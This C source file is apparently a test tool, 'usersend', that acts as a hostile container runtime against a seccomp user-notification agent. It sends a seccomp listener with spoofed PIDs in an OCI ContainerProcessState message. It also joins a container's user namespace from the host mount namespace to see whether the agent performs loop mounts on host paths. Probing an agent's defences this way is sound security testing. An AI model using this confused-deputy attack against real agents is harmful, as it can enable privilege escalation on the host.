/*
 * usersend: a hostile runtime on the agent's user socket.
 *
 *   usersend SOCKET STATEPID|child PID|child
 *   usersend --setns SOCKET PATH...
 *
 * Makes a "container" of its own first: a child in new user and mount
 * namespaces (owned by the caller, mapping root to the caller's own uid and
 * gid) that runs under a seccomp filter and sleeps. Then it installs a
 * filter of its own with a listener (trapping ioctl LOOP_CTL_GET_FREE, and
 * mount(2) with --setns), sends that listener to SOCKET in an OCI
 * ContainerProcessState and prints the agent's answer line ("reply: ...").
 * The child is killed at the end.
 *
 * Without --setns the state names STATEPID as the container's init and PID
 * as the process ("child" names the child). Last it makes the trapped call
 * itself, from outside any user namespace, and prints "call: errno N" (or
 * "call: value N").
 *
 * With --setns the state names the child as init and process, so the agent
 * verifies the child and serves the listener; the trapped calls then come
 * from a process of the container's user namespace that is NOT in the
 * container's mount namespace. It joins the child's user namespace only
 * (the owner may: it has every capability there), so it stays in the host's
 * mount namespace, takes a device with LOOP_CTL_GET_FREE on the container's
 * /dev/loop-control and, for each PATH, prints "stat PATH: errno N" (the
 * kernel's answer as this process) and "mount PATH: errno N" for
 * mount(/dev/loopN, PATH, "ext4").
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define LOOP_CTL_GET_FREE 0x4C82

static void die(const char *what)
{
	perror(what);
	exit(2);
}

/* install sets a filter that answers ioctl LOOP_CTL_GET_FREE with
 * loop_action, mount(2) with mount_action and allows everything else. */
static int install(unsigned loop_action, unsigned mount_action, unsigned flags)
{
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_mount, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, mount_action),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_ioctl, 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[1])),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, LOOP_CTL_GET_FREE, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, loop_action),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = {.len = sizeof(f) / sizeof(f[0]), .filter = f};
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0))
		die("no_new_privs");
	int fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
	if (fd < 0)
		die("seccomp");
	return fd;
}

static void writefile(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text))
		die(path);
	close(fd);
}

/* container forks the "container": a child in new user and mount
 * namespaces, root mapped to the caller's uid and gid, under a filter that
 * allows everything, sleeping until it is killed. */
static pid_t container(void)
{
	int up[2], down[2];
	if (pipe(up) || pipe(down))
		die("pipe");
	pid_t child = fork();
	if (child < 0)
		die("fork");
	if (child == 0) {
		char c;
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
			die("unshare");
		if (write(up[1], "u", 1) != 1 || read(down[0], &c, 1) != 1)
			die("child sync");
		install(SECCOMP_RET_ALLOW, SECCOMP_RET_ALLOW, 0);
		if (write(up[1], "r", 1) != 1)
			die("child sync");
		pause();
		_exit(0);
	}
	char c, path[64], map[64];
	if (read(up[0], &c, 1) != 1)
		die("sync");
	snprintf(path, sizeof(path), "/proc/%d/setgroups", child);
	writefile(path, "deny");
	snprintf(path, sizeof(path), "/proc/%d/uid_map", child);
	snprintf(map, sizeof(map), "0 %d 1", getuid());
	writefile(path, map);
	snprintf(path, sizeof(path), "/proc/%d/gid_map", child);
	snprintf(map, sizeof(map), "0 %d 1", getgid());
	writefile(path, map);
	if (write(down[1], "m", 1) != 1 || read(up[0], &c, 1) != 1)
		die("sync");
	return child;
}

/* send_listener hands lfd to the agent at sock in a ContainerProcessState
 * for container id naming statepid as its init and pid as the process,
 * closes lfd and prints the agent's answer line. */
static void send_listener(const char *sock, int lfd, const char *id, int pid, int statepid)
{
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	strncpy(sa.sun_path, sock, sizeof(sa.sun_path) - 1);
	if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof(sa)))
		die("connect");
	char msg[512];
	int n = snprintf(msg, sizeof(msg),
			 "{\"ociVersion\":\"1.0.2\",\"fds\":[\"seccompFd\"],\"pid\":%d,\"metadata\":\"\","
			 "\"state\":{\"ociVersion\":\"1.0.2\",\"id\":\"%s\",\"status\":\"creating\",\"pid\":%d}}",
			 pid, id, statepid);
	char cbuf[CMSG_SPACE(sizeof(int))];
	memset(cbuf, 0, sizeof(cbuf));
	struct iovec iov = {.iov_base = msg, .iov_len = n};
	struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
	struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
	cm->cmsg_level = SOL_SOCKET;
	cm->cmsg_type = SCM_RIGHTS;
	cm->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(cm), &lfd, sizeof(int));
	if (sendmsg(s, &mh, 0) != n)
		die("sendmsg");
	close(lfd);
	char reply[1024];
	ssize_t r = read(s, reply, sizeof(reply) - 1);
	reply[r > 0 ? r : 0] = 0;
	printf("reply: %s", reply);
	if (r <= 0 || reply[r - 1] != '\n')
		printf("\n");
	close(s);
}

/* call makes the trapped ioctl from here, outside any user namespace. */
static void call(void)
{
	int nul = open("/dev/null", O_RDONLY);
	int v = ioctl(nul, LOOP_CTL_GET_FREE, 0);
	if (v < 0)
		printf("call: errno %d\n", errno);
	else
		printf("call: value %d\n", v);
}

/* outside joins child's user namespace only and makes the trapped calls
 * from the host's mount namespace, one mount(2) a path of paths[0..n). */
static void outside(pid_t child, char **paths, int n)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/root/dev/loop-control", child);
	int ctl = open(path, O_RDWR | O_CLOEXEC);
	if (ctl < 0)
		die(path);
	snprintf(path, sizeof(path), "/proc/%d/ns/user", child);
	int ns = open(path, O_RDONLY | O_CLOEXEC);
	if (ns < 0)
		die(path);
	if (setns(ns, CLONE_NEWUSER))
		die("setns");
	printf("joined the container's user namespace\n");
	int idx = ioctl(ctl, LOOP_CTL_GET_FREE, 0);
	if (idx < 0)
		printf("get_free: errno %d\n", errno);
	else
		printf("get_free: value %d\n", idx);
	char dev[32];
	snprintf(dev, sizeof(dev), "/dev/loop%d", idx < 0 ? 0 : idx);
	for (int i = 0; i < n; i++) {
		struct stat st;
		printf("stat %s: errno %d\n", paths[i], stat(paths[i], &st) ? errno : 0);
		int m = mount(dev, paths[i], "ext4", 0, NULL);
		printf("mount %s: errno %d\n", paths[i], m ? errno : 0);
		if (m == 0)
			umount2(paths[i], MNT_DETACH);
	}
}

int main(int argc, char **argv)
{
	int setns_mode = argc > 1 && strcmp(argv[1], "--setns") == 0;
	if (setns_mode ? argc < 4 : argc != 4) {
		fprintf(stderr, "usage: usersend SOCKET STATEPID|child PID|child\n"
				"       usersend --setns SOCKET PATH...\n");
		return 2;
	}
	pid_t child = container();
	if (setns_mode) {
		int lfd = install(SECCOMP_RET_USER_NOTIF, SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER);
		send_listener(argv[2], lfd, "setns", child, child);
		outside(child, argv + 3, argc - 3);
	} else {
		int statepid = strcmp(argv[2], "child") ? atoi(argv[2]) : child;
		int pid = strcmp(argv[3], "child") ? atoi(argv[3]) : child;
		int lfd = install(SECCOMP_RET_USER_NOTIF, SECCOMP_RET_ALLOW, SECCOMP_FILTER_FLAG_NEW_LISTENER);
		send_listener(argv[1], lfd, "hostile", pid, statepid);
		call();
	}
	fflush(stdout);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return 0;
}
